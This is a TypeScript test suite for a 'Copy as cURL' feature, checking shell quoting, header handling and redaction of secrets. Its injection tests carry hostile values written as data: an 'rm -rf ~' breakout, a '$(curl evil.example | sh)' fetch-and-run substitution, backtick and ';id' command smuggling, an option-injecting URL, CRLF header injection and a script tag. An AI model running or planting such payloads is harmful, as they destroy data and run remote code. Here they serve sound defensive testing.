/**
 * Copy as cURL (issue #6): the command, read back by a POSIX shell tokenizer, must hold exactly
 * the request's values, and no value may reach the shell unquoted.
 */
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { shellQuote, toCurl } from "../../../src/core/share/curl.ts";
import { REDACTED } from "../../../src/core/share/rules.ts";
import { VALID, exchange, hostileString, shellWords } from "./fixtures.ts";

const URL = "https://api.example.com/v1/orders";

/** The -H arguments of a command, in order. */
function headerArgs(words: readonly string[]): string[] {
  const out: string[] = [];
  for (let i = 0; i < words.length - 1; i++) if (words[i] === "-H") out.push(words[i + 1]!);
  return out;
}

describe("shellQuote", () => {
  it("wraps in single quotes and writes each quote as '\\''", () => {
    expect(shellQuote("a b")).toBe("'a b'");
    expect(shellQuote("it's")).toBe("'it'\\''s'");
    expect(shellQuote("")).toBe("''");
  });
});

describe("toCurl", () => {
  it("starts with curl and the quoted URL, and sends GET without -X", () => {
    const cmd = toCurl(exchange({ requestHeaders: [["Accept", "application/json"]] }), { includeSecrets: false });
    expect(cmd.startsWith(`curl '${URL}'`)).toBe(true);
    expect(shellWords(cmd)).toEqual(["curl", URL, "-H", "Accept: application/json"]);
  });

  it("gives -X for other methods and --head for HEAD", () => {
    expect(shellWords(toCurl(exchange({ method: "POST" }), { includeSecrets: false }))).toEqual(["curl", URL, "-X", "POST"]);
    expect(shellWords(toCurl(exchange({ method: "DELETE" }), { includeSecrets: false }))).toEqual(["curl", URL, "-X", "DELETE"]);
    expect(shellWords(toCurl(exchange({ method: "HEAD" }), { includeSecrets: false }))).toEqual(["curl", URL, "--head"]);
  });

  it("quotes a method that is not a plain word", () => {
    const cmd = toCurl(exchange({ method: "GET;id" }), { includeSecrets: false });
    expect(shellWords(cmd)).toEqual(["curl", URL, "-X", "GET;id"]);
  });

  it("drops pseudo-headers and the headers curl sets itself", () => {
    const cmd = toCurl(
      exchange({
        requestHeaders: [
          [":authority", "api.example.com"],
          [":method", "GET"],
          [":path", "/v1/orders"],
          [":scheme", "https"],
          ["Host", "api.example.com"],
          ["content-length", "12"],
          ["Connection", "keep-alive"],
          ["Accept", "*/*"],
        ],
      }),
      { includeSecrets: true },
    );
    expect(headerArgs(shellWords(cmd))).toEqual(["Accept: */*"]);
  });

  it("sends an empty header the way curl needs it, as 'Name;'", () => {
    expect(headerArgs(shellWords(toCurl(exchange({ requestHeaders: [["X-Empty", ""]] }), { includeSecrets: true })))).toEqual(["X-Empty;"]);
  });

  it("redacts by default and keeps secrets only when asked", () => {
    const x = exchange({
      url: `${URL}?access_token=abc123`,
      requestHeaders: [
        ["Authorization", `Bearer ${VALID.token}`],
        ["Cookie", "sid=s3cr3t"],
        ["X-Api-Key", "k-123456"],
      ],
    });
    const redacted = shellWords(toCurl(x, { includeSecrets: false }));
    expect(redacted[1]).toBe(`${URL}?access_token=${REDACTED}`);
    expect(headerArgs(redacted)).toEqual([
      `Authorization: Bearer ${VALID.header}.${VALID.payload}.REDACTED`,
      `Cookie: sid=${REDACTED}`,
      `X-Api-Key: ${REDACTED}`,
    ]);
    const full = shellWords(toCurl(x, { includeSecrets: true }));
    expect(full[1]).toBe(`${URL}?access_token=abc123`);
    expect(headerArgs(full)).toEqual([`Authorization: Bearer ${VALID.token}`, "Cookie: sid=s3cr3t", "X-Api-Key: k-123456"]);
  });

  it("turns curl's URL globbing off when the URL has brackets or braces", () => {
    expect(shellWords(toCurl(exchange({ url: `${URL}?token=abc` }), { includeSecrets: false }))).toContain("--globoff");
    expect(shellWords(toCurl(exchange({ url: `${URL}?filter[name]=x` }), { includeSecrets: true }))).toContain("--globoff");
    expect(shellWords(toCurl(exchange({}), { includeSecrets: true }))).not.toContain("--globoff");
  });

  it("gives a URL that would read as an option through --url", () => {
    expect(shellWords(toCurl(exchange({ url: "-o/tmp/pwned" }), { includeSecrets: true }))).toEqual(["curl", "--url", "-o/tmp/pwned"]);
  });

  it.each([
    ["single quotes", "it's'; rm -rf ~; echo '"],
    ["command substitution", "$(curl evil.example | sh)"],
    ["backticks", "`id`"],
    ["newlines", "a\nb\r\nX-Injected: 1\n"],
    ["HTML", "<script>alert(1)</script>"],
    ["backslashes", "\\'\\\\"],
    ["1 MB", "x'".repeat(1 << 19)],
  ])("keeps a header value with %s exactly, and out of the shell's reach", (_label, value) => {
    const cmd = toCurl(exchange({ url: `${URL}?q=${value.slice(0, 50)}`, requestHeaders: [["X-Value", value]] }), { includeSecrets: true });
    const words = shellWords(cmd);
    expect(words[1]).toBe(`${URL}?q=${value.slice(0, 50)}`);
    expect(headerArgs(words)).toEqual([`X-Value: ${value}`]);
  });

  it("holds every header value exactly, whatever it is (property)", () => {
    const name = fc.stringMatching(/^[!#$%&'*+.^_`|~0-9A-Za-z-]{1,20}$/).filter((n) => !["host", "content-length", "connection"].includes(n.toLowerCase()));
    fc.assert(
      fc.property(
        fc.array(fc.tuple(name, hostileString(60)), { maxLength: 8 }),
        hostileString(60),
        hostileString(12).filter((s) => s !== ""),
        (headers, url, method) => {
          const words = shellWords(toCurl(exchange({ url, method, requestHeaders: headers }), { includeSecrets: true }));
          expect(words[0]).toBe("curl");
          const urlWord = words[1] === "--url" ? words[2] : words[1];
          expect(urlWord).toBe(url);
          const parsed = headerArgs(words).map((arg) => {
            const colon = arg.indexOf(": ");
            return colon === -1 ? [arg.slice(0, -1), ""] : [arg.slice(0, colon), arg.slice(colon + 2)];
          });
          expect(parsed).toEqual(headers.map(([n, v]) => [n, v]));
          const afterUrl = words[1] === "--url" ? 3 : 2;
          if (method === "GET") expect(words[afterUrl]).not.toBe("-X");
          else if (method === "HEAD") expect(words[afterUrl]).toBe("--head");
          else expect(words.slice(afterUrl, afterUrl + 2)).toEqual(["-X", method]);
        },
      ),
      { numRuns: 300 },
    );
  });

  it("keeps redacted commands out of the shell's reach too (property)", () => {
    fc.assert(
      fc.property(fc.array(fc.tuple(fc.constantFrom("Authorization", "Cookie", "X-Api-Key", "Referer", "X"), hostileString(60)), { maxLength: 6 }), (headers) => {
        const words = shellWords(toCurl(exchange({ requestHeaders: headers }), { includeSecrets: false }));
        expect(headerArgs(words)).toHaveLength(headers.length);
      }),
      { numRuns: 200 },
    );
  });
});
